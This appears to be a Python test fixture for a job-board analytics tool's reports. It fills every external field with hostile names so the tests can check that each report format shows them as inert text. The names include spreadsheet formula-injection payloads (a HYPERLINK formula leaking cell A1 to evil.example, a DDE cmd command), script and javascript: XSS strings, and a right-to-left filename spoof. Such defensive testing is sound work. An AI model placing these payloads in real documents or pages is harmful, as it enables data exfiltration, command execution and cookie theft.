"""Names from outside that have broken or steered some program: every format of a report must show each as text."""

from datetime import UTC, datetime, timedelta

from hirempire.analysis.channels import channel_order
from hirempire.analysis.frame import job_labels, jobs_frame, links_frame
from hirempire.analysis.mapping import ChannelMap
from hirempire.analysis.subject import Subject
from hirempire.api.errors import JobNotFound
from hirempire.api.models import Failed, Job, Link, Loaded, Outcome, UnreadableLink
from hirempire.reports.brief import Brief
from hirempire.reports.build import story
from hirempire.reports.story import Story

NAMES: dict[str, str] = {
    "formula": '=HYPERLINK("https://evil.example/?"&A1,"Open")',
    "plus": "+1+1|calc",
    "dde": "=cmd|' /C calc'!A0",
    "at": "@SUM(1+1)",
    "minus": "-2+3",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "newline": "Job\nboard",
    "script": "<script>alert(1)</script>",
    "end of script": "</script><img src=x onerror=alert(1)>",
    "entity": "&lt;b&gt; & <b>bold</b>",
    "control": "Bell\x07 and \x00 and \x1b[31m and \x7f",
    "surrogate escape": "_x0041_ and _x000D_",
    "right to left": "\u202egnp.exe\u202c",
    "hebrew": "דרושים ועבודה",
    "emoji": "Careers 🎉👩\u200d💻",
    "combining": "Z\u0351\u036b\u0343a\u0363l\u0368g\u0366o\u0334",
    "cjk": "求人サイト・東京",
    "wide formula": "＝1+1",
    "quotes": "\"Job\" 'board' “one”",
    "javascript": "javascript:alert(document.cookie)",
    "url": "https://evil.example/pixel.png",
    "mailto": "mailto:evil@example.com",
    "file": "external:C:\\evil.xlsx",
    "internal": "internal:Sheet1!A1",
    "brackets": "{=1+1} {{7*7}} [1] %s ${x}",
    "number": "0012345",
    "date": "3-4",
    "like ours": "Visits",
    "like ours, small": "visits",
    "other": "Other (3 channels)",
    "blank": "\u00a0\u200b",
    "long": "Ü" * 5_000,
    "long word": "x" * 40_000,
}
"""A name for each kind of trouble; "blank" is as empty as a name gets."""

EMPTY_TITLE = ""
"""A job whose title is empty: it goes by its ID."""
_NOW = datetime(2026, 6, 18, 10, 30, tzinfo=UTC)


def hostile_subject() -> Subject:
    """A subject in which everything that comes from outside is one of these; always the same."""
    names = list(NAMES.values())
    jobs = [
        Job(
            f"job-{place:02}",
            job_title=name,
            company_name=name,
            department=names[place % 5],
            job_location=name,
            status=name,
        )
        for place, name in enumerate(names)
    ]
    jobs.append(Job("job-untitled", job_title=EMPTY_TITLE))
    loaded = [
        Loaded(
            job.id,
            [
                Link(
                    f"{job.id}-{kind}",
                    names[(place + step) % len(names)],
                    7 * place + 100 * step,
                    _NOW - timedelta(days=3 * place + 10 * step + 1),
                    source_url="javascript:alert(1)" if step else "https://jobs.example/x",
                    code=names[place % len(names)][:200],
                )
                for step, kind in enumerate(("one", "other", "third"))
            ],
            _NOW,
            [UnreadableLink(job.id, "=1+1", names[place % len(names)], "visits: -3")] if place % 7 == 0 else [],
        )
        for place, job in enumerate(jobs[:-2])
    ]
    outcomes: list[Outcome] = [*loaded, Failed(jobs[-2].id, JobNotFound()), Loaded(jobs[-1].id, [], _NOW)]
    mapping = ChannelMap(names={NAMES["cjk"]: NAMES["formula"]}, groups={NAMES["script"]: NAMES["plus"]})
    links = mapping.shown(links_frame(outcomes))
    ids = tuple(job.id for job in jobs)
    facts = jobs_frame(jobs).reindex(list(ids))
    return Subject(
        links=links,
        every_link=links,
        jobs=ids,
        outcomes=tuple(outcomes),
        labels=job_labels(ids, {job.id: job for job in jobs}),
        facts=facts,
        channels=tuple(channel_order(links)),
        map=mapping,
        filters=(NAMES["formula"], NAMES["script"]),
        zone="Europe/Berlin",
        fetched_at=(_NOW, _NOW),
        route="35 requests, one a job.",
    )


def hostile_story() -> Story:
    """The story of :func:`hostile_subject`, with hostile wishes."""
    return story(hostile_subject(), Brief(title=NAMES["script"], author=NAMES["formula"], note=NAMES["javascript"]))
